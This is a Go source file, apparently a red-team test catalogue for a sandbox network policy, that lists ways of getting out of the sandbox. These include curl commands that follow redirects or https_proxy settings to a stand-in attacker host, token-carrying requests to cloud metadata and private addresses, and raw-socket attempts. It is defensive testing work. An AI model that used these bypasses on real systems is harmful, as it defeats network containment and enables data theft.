@@ -1,0 +1,229 @@
+package redteam
+
+import (
+	"fmt"
+	"net/netip"
+	"strings"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/custody-project/custody/netpolicy"
+	"github.com/custody-project/custody/redteam/world"
+)
+
+// addresses are the probes that go to an address, without a name.
+func (c *catalogue) addresses() {
+	c.services()
+	c.places()
+	c.ownEnds()
+	c.otherPorts()
+	c.sockets()
+}
+
+// talkTo is a task that says its token to an address.
+func (c *catalogue) talkTo(v Family, proto string, to netip.Addr, port int) *task {
+	return &task{
+		Do: "talk", Host: to.String(), Family: v.number(), Port: port, Proto: proto,
+		Send: once("GET /" + c.token() + " HTTP/1.1\r\nHost: " + world.Attacker + "\r\n\r\n"),
+	}
+}
+
+// services are what a program would look for anywhere on the internet.
+func (c *catalogue) services() {
+	for _, s := range []struct {
+		id, title, proto string
+		port             int
+		bypass           Bypass
+	}{
+		{"https", "TCP to port 443 of an address", "tcp", 443, AnyAddress},
+		{"http", "TCP to port 80 of an address", "tcp", 80, AnyAddress},
+		{"ssh", "TCP to port 22 of an address", "tcp", 22, OtherWay},
+		{"smtp", "TCP to port 25 of an address", "tcp", 25, OtherWay},
+		{"high-port", "TCP to a high port of an address", "tcp", 47111, OtherWay},
+		{"quic", "UDP to port 443 of an address", "udp", 443, QUIC},
+		{"ntp", "UDP to port 123 of an address", "udp", 123, OtherWay},
+		{"wireguard", "UDP to port 51820 of an address", "udp", 51820, OtherWay},
+		{"udplite", "UDP-Lite to an address", "udplite", 443, OtherWay},
+	} {
+		c.both("address/"+s.id, s.title, s.bypass, func(v Family) Probe {
+			p := Probe{task: c.talkTo(v, s.proto, c.victim(v), s.port)}
+			if s.proto == "udplite" {
+				p.proof = deniedOrRefused
+			}
+			return p
+		})
+	}
+}
+
+// places are addresses with a meaning of their own.
+func (c *catalogue) places() {
+	c.both("address/metadata", "the cloud's metadata service", Metadata, func(v Family) Probe {
+		return Probe{task: c.talkTo(v, "tcp", v.of(world.Metadata4, world.Metadata6), 80)}
+	})
+	c.both("address/lan", "a service of the host, at its address in a private network", Rebinding, func(v Family) Probe {
+		return Probe{task: c.talkTo(v, "tcp", v.of(world.SiteLAN4, world.SiteLAN6), 8080)}
+	})
+	c.both("address/host", "a service of the host, at its public address", ProxyPort, func(v Family) Probe {
+		return Probe{task: c.talkTo(v, "tcp", v.of(world.Site4, world.Site6), 2375)}
+	})
+	for _, s := range []struct{ id, title, to string }{
+		{"private", "a private address", "192.168.77.77"},
+		{"cgnat", "an address of a carrier's NAT", "100.64.77.77"},
+		{"linklocal", "a link-local address", "169.254.77.77"},
+		{"reserved", "a reserved address", "240.0.0.77"},
+		{"nat64", "an IPv4 address inside of NAT64", "64:ff9b::5db8:4242"},
+		{"nat64-local", "an IPv4 address inside of a local NAT64", "64:ff9b:1::5db8:4242"},
+		{"sixtofour", "an IPv4 address inside of 6to4", "2002:5db8:4242::1"},
+		{"teredo", "an IPv4 address inside of Teredo", "2001:0:5db8:4242::1"},
+		{"ula", "a unique local address", "fd77::77"},
+		{"documentation", "an address for documentation", "2001:db8::77"},
+	} {
+		a := netip.MustParseAddr(s.to)
+		v := familyOf(a)
+		c.add(Probe{ID: "address/" + s.id, Family: v, Title: s.title, Bypass: Rebinding, task: c.talkTo(v, "tcp", a, 443)})
+	}
+	mapped := netip.AddrFrom16(c.victim(IPv4).As16())
+	c.add(Probe{
+		ID: "address/mapped", Family: IPv6, Title: "an IPv4 address through an IPv6 socket", Bypass: Rebinding,
+		task: c.talkTo(IPv6, "tcp", mapped, 443), targets: []target{{"", netip.AddrPortFrom(mapped.Unmap(), 443)}},
+	})
+	t := c.talkTo(IPv6, "tcp", netip.MustParseAddr("fe80::77"), 443)
+	t.Interface = "eth0"
+	c.add(Probe{
+		ID: "address/linklocal-v6", Family: IPv6, Title: "a link-local address", Bypass: Rebinding, task: t, proof: deniedOrRefused,
+		targets: []target{{"", netip.MustParseAddrPort("[ff02::1:ff00:77]:0")}}, // of the neighbour solicitation
+	})
+	c.both("address/multicast", "a multicast group: what DNS-SD and SSDP use", OtherWay, func(v Family) Probe {
+		t := c.talkTo(v, "udp", v.of(netip.MustParseAddr("224.0.0.251"), netip.MustParseAddr("ff02::fb")), 5353)
+		if v == IPv6 {
+			t.Interface = "eth0"
+		}
+		return Probe{task: t, proof: deniedOrRefused}
+	})
+	for _, s := range []struct{ id, to string }{{"broadcast", "255.255.255.255"}, {"broadcast-link", "198.18.0.3"}} {
+		t := c.talkTo(IPv4, "udp", netip.MustParseAddr(s.to), 67)
+		t.Broadcast = true
+		c.add(Probe{ID: "address/" + s.id, Family: IPv4, Title: "a broadcast, as DHCP sends it", Bypass: OtherWay, task: t, proof: deniedOrRefused})
+	}
+}
+
+// ownEnds are addresses that mean this host, whichever host that is.
+func (c *catalogue) ownEnds() {
+	for _, s := range []struct{ id, title, to string }{
+		{"loopback-v4", "127.0.0.1: the guest's own, not the host's", "127.0.0.1"},
+		{"loopback-high", "127.1.2.3: the same", "127.1.2.3"},
+		{"loopback-v6", "::1: the same", "::1"},
+		{"unspecified-v4", "0.0.0.0: the same", "0.0.0.0"},
+		{"unspecified-v6", ":: the same", "::"},
+		{"loopback-mapped", "::ffff:127.0.0.1: the same", "::ffff:127.0.0.1"},
+	} {
+		a := netip.MustParseAddr(s.to)
+		c.add(Probe{ID: "address/" + s.id, Family: familyOf(a), Title: s.title, Bypass: ProxyPort, task: c.talkTo(familyOf(a), "tcp", a, 8080), proof: deniedOrRefused})
+	}
+	for _, port := range []int{22, 80, 443, 8080} {
+		c.add(Probe{
+			ID: fmt.Sprintf("address/gateway-%d-v4", port), Family: IPv4, Title: "another port of the address where the resolver is", Bypass: ProxyPort,
+			task: c.talkTo(IPv4, "tcp", netpolicy.Gateway4, port),
+		})
+	}
+	for _, port := range []int{53, 443} {
+		c.add(Probe{
+			ID: fmt.Sprintf("address/gateway-%d-v6", port), Family: IPv6, Title: "a port of the host's end of the link", Bypass: ProxyPort,
+			task: c.talkTo(IPv6, "tcp", netpolicy.Gateway6, port),
+		})
+	}
+	c.add(Probe{
+		ID: "address/synthetic-unknown", Family: IPv4, Title: "an address that could stand for a name, and was not given out", Bypass: ProxyPort,
+		task: c.talkTo(IPv4, "tcp", netip.MustParseAddr("198.18.200.200"), 443),
+	})
+	c.add(Probe{
+		ID: "address/synthetic-beyond", Family: IPv4, Title: "an address beside those that stand for names", Bypass: ProxyPort,
+		task: c.talkTo(IPv4, "tcp", netip.MustParseAddr("198.19.1.0"), 443),
+	})
+}
+
+// otherPorts go to hosts that are allowed, in another way than they are.
+func (c *catalogue) otherPorts() {
+	hello := func() []piece { return once("GET /" + c.token() + " HTTP/1.1\r\nHost: h\r\n\r\n") }
+	for _, s := range []struct {
+		id, title, name, proto string
+		port                   int
+		bypass                 Bypass
+	}{
+		{"other-port", "another port of an allowed name", world.Allowed, "tcp", 8443, OtherWay},
+		{"ssh-to-allowed", "git over ssh to a host that is allowed for HTTPS", world.Allowed, "tcp", 22, OtherWay},
+		{"smtp-to-allowed", "mail to a host that is allowed for HTTPS", world.Allowed, "tcp", 25, OtherWay},
+		{"cleartext-port", "port 80 of a host that is allowed on 443", world.Allowed, "tcp", 80, OtherWay},
+		{"quic-to-allowed", "QUIC to an allowed name", world.Allowed, "udp", 443, QUIC},
+		{"udp-to-plain", "UDP to a name that is allowed for TCP", world.Plain, "udp", 80, QUIC},
+	} {
+		c.add(Probe{ID: "address/" + s.id, Title: s.title, Bypass: s.bypass, task: &task{Do: "talk", Name: s.name, Port: s.port, Proto: s.proto, Send: hello()}, proof: denied})
+	}
+	c.both("address/direct-other-port", "another port of a direct name", OtherWay, func(v Family) Probe {
+		return Probe{task: &task{Do: "talk", Name: world.Direct, Family: v.number(), Port: 7002, Send: hello()}, allowed: asks, proof: denied}
+	})
+	c.both("address/direct-other-proto", "a direct name's TCP port by UDP", OtherWay, func(v Family) Probe {
+		return Probe{task: &task{Do: "talk", Name: world.Direct, Family: v.number(), Port: 7000, Proto: "udp", Send: hello()}, allowed: asks, proof: denied}
+	})
+	c.both("address/direct-unasked", "the address of a direct name that was never asked for", AnyAddress, func(v Family) Probe {
+		return Probe{task: c.talkTo(v, "tcp", v.of(world.Quiet4, world.Quiet6), 7000)}
+	})
+	c.both("address/allowed-real", "the real address of a name that the gateway serves", AnyAddress, func(v Family) Probe {
+		return Probe{task: c.talkTo(v, "tcp", v.of(world.Allowed4, world.Allowed6), 443)}
+	})
+	p := Probe{
+		ID: "address/redirect-name", Title: "a redirect of an allowed server to the attacker's name", Bypass: OtherWay, allowed: reaches,
+		task: program("curl", "-sS", "-m", "20", "--cacert", "ca.pem", "-L", "https://"+world.Allowed+"/redirect?to=https://"+c.token()+"."+world.Attacker+"/"),
+	}
+	c.add(p)
+	a := c.victim(IPv4)
+	c.add(Probe{
+		ID: "address/redirect-address", Title: "a redirect of an allowed server to the attacker's address", Bypass: OtherWay, allowed: reaches,
+		task:    program("curl", "-sS", "-m", "20", "--connect-timeout", "5", "--cacert", "ca.pem", "-L", "https://"+world.Allowed+"/redirect?to=http://"+a.String()+"/"+c.token()),
+		targets: []target{{"", netip.AddrPortFrom(a, 80)}},
+	})
+	a = c.victim(IPv4)
+	c.add(Probe{
+		ID: "address/proxy-variables", Title: "a proxy of the attacker's, named by the usual variables", Bypass: ProxyPort,
+		task: program("env", "https_proxy=http://"+a.String()+":8080", "curl", "-sS", "-m", "20", "--connect-timeout", "5", "--cacert", "ca.pem",
+			"https://"+world.Allowed+"/"+c.token()),
+		targets: []target{{"", netip.AddrPortFrom(a, 8080)}},
+	})
+}
+
+func program(argv ...string) *task { return &task{Do: "program", Argv: argv} }
+
+func familyOf(a netip.Addr) Family {
+	if a.Is4() {
+		return IPv4
+	}
+	return IPv6
+}
+
+// sockets are of kinds with which packets could be made at will.
+func (c *catalogue) sockets() {
+	for _, s := range []struct {
+		id, title             string
+		v                     Family
+		domain, socket, proto int
+	}{
+		{"raw-icmp-v4", "a raw socket for ICMP", IPv4, unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
+		{"raw-icmp-v6", "a raw socket for ICMPv6", IPv6, unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6},
+		{"raw-ip-v4", "a raw socket for any protocol", IPv4, unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW},
+		{"raw-ip-v6", "the same", IPv6, unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_RAW},
+		{"raw-gre", "a raw socket for GRE", IPv4, unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_GRE},
+		{"sctp", "an SCTP socket", IPv4, unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP},
+		{"packet", "a packet socket", "", unix.AF_PACKET, unix.SOCK_RAW, 0x0300},
+		{"vsock", "a socket to the hypervisor", "", unix.AF_VSOCK, unix.SOCK_STREAM, 0},
+		{"xdp", "an XDP socket", "", unix.AF_XDP, unix.SOCK_RAW, 0},
+		{"ping-v4", "an ICMP echo from a ping socket", IPv4, unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
+		{"ping-v6", "the same for IPv6", IPv6, unix.AF_INET6, unix.SOCK_DGRAM, unix.IPPROTO_ICMPV6},
+	} {
+		t := &task{Do: "raw", Socket: []int{s.domain, s.socket, s.proto}}
+		if s.v != "" {
+			t.Host, t.Family = c.victim(s.v).String(), s.v.number()
+			t.Send = once(strings.Repeat("\x08\x00\x00\x00", 2) + c.token())
+		}
+		c.add(Probe{ID: "socket/" + s.id, Family: s.v, Title: s.title, Bypass: RawSocket, task: t, proof: deniedOrRefused})
+	}
+}
